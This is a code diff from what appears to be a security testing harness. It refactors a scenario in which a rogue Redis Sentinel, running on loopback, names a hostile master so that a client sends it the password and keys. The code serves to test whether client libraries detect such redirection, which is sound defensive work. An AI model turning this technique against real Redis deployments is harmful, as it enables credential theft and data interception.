@@ -1,18 +1,19 @@
 """C2 on redis: a Sentinel names the attacker's host as the master. The client logs in there."""
 
-from typing import Any
-
-from backwatch.attack.authority import Authority
+from backwatch.attack.clients.redis import RedisSentinel
 from backwatch.attack.demo.services.redis import bulk
 from backwatch.attack.protocols.redis import Talk
-from backwatch.attack.protocols.server import LOOPBACK, HostileServer
-from backwatch.attack.scenarios import SECRET
+from backwatch.attack.protocols.server import LOOPBACK
+from backwatch.attack.scenarios import Run
 from backwatch.attack.scenarios.redis.moved import RedisMoved
-from backwatch.attack.techniques.redis_moved import Leading
+from backwatch.attack.techniques.redis_moved import MovingRedis
 
 
-class _Sentinel(Leading):
+class RogueSentinel(MovingRedis):
+    """A master and its Sentinel in one. Once hostile, the Sentinel names another master."""
+
     def answer(self, verb: bytes, command: list[bytes], talk: Talk) -> bytes:
+        """Return the master's address, or the master's own reply."""
         if verb != b"SENTINEL":
             return super().answer(verb, command, talk)
         host, port = (LOOPBACK, self.elsewhere.port) if self.hostile else ("localhost", self.port)
@@ -33,16 +34,5 @@ class RedisSentinelRogue(RedisMoved):
     attack = "names, as a Sentinel, another host as the master, which is sent the password and the keys"
     reference = "https://redis.io/docs/latest/operate/oss_and_stack/management/sentinel/; ATT&CK T1557"
     notices = "nothing"
-
-    @classmethod
-    def service(cls, authority: Authority) -> HostileServer:
-        """Return one server that plays both."""
-        return _Sentinel(authority)
-
-    def open_client(self) -> Any:
-        """Return the library's client, over verified TLS."""
-        from redis.sentinel import Sentinel
-
-        tls: Any = {"ssl": True, "ssl_ca_certs": self.config.ca_file, "socket_timeout": 5}
-        sentinel: Any = Sentinel([("localhost", self.config.port)], sentinel_kwargs=tls, password=SECRET, **tls)
-        return sentinel.master_for("shop")
+    server = RogueSentinel
+    runs = (Run(RedisSentinel),)
